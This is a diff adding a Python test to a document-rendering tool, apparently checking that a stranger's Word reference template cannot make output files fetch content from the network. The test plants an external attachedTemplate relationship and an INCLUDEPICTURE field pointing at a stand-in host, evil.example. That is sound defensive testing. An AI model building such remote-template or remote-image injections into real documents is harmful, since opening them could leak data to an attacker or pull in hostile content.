@@ -446,6 +446,37 @@ def test_mistakes_in_a_template_of_ones_own(template: str, line: int, part: str,
     assert "Traceback" not in result.stderr
 
 
+def test_a_reference_document_of_a_strangers_fetches_nothing(run: Run, tmp_path: Path) -> None:
+    """What Word would load from the net on opening is not passed on."""
+    (tmp_path / "plans").mkdir()
+    (tmp_path / "templates").mkdir()
+    (tmp_path / "plans/a.yaml").write_text(HEAD + "innledning: '[lenke](https://example.org)'\n", "utf-8")
+    evil = tmp_path / "templates/reference.docx"
+    with zipfile.ZipFile(ROOT / "templates/reference.docx") as shipped, zipfile.ZipFile(evil, "w") as target:
+        for name in shipped.namelist():
+            content = shipped.read(name)
+            if name == "word/settings.xml":
+                content = content.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rIdE"/></w:settings>')
+            if name == "word/footer1.xml":
+                field = b'<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/x"/></w:p></w:ftr>'
+                content = content.replace(b"</w:ftr>", field)
+            target.writestr(name, content)
+        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+        relation = f'<Relationship Id="rIdE" Type="{kind}/attachedTemplate" Target="http://evil.example/t" TargetMode="External"/>'
+        rels = f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation}</Relationships>'
+        target.writestr("word/_rels/settings.xml.rels", rels)
+        target.writestr("word/_rels/footer1.xml.rels", rels.replace("attachedTemplate", "image"))
+    assert run("render", "--to", "docx").returncode == 0
+    with zipfile.ZipFile(tmp_path / "build/a.docx") as made:
+        everything = {name: made.read(name) for name in made.namelist()}
+    assert any(b"https://example.org" in content for name, content in everything.items() if name.endswith(".rels"))
+    for name, content in everything.items():
+        assert b"attachedTemplate" not in content, name
+        assert b"INCLUDEPICTURE" not in content, name
+        if name.endswith(".rels"):
+            assert b"evil.example" not in content, name
+
+
 def test_a_template_that_leads_out_of_its_folder_is_not_read(run: Run, tmp_path: Path) -> None:
     (tmp_path / "plans").mkdir()
     (tmp_path / "templates").mkdir()
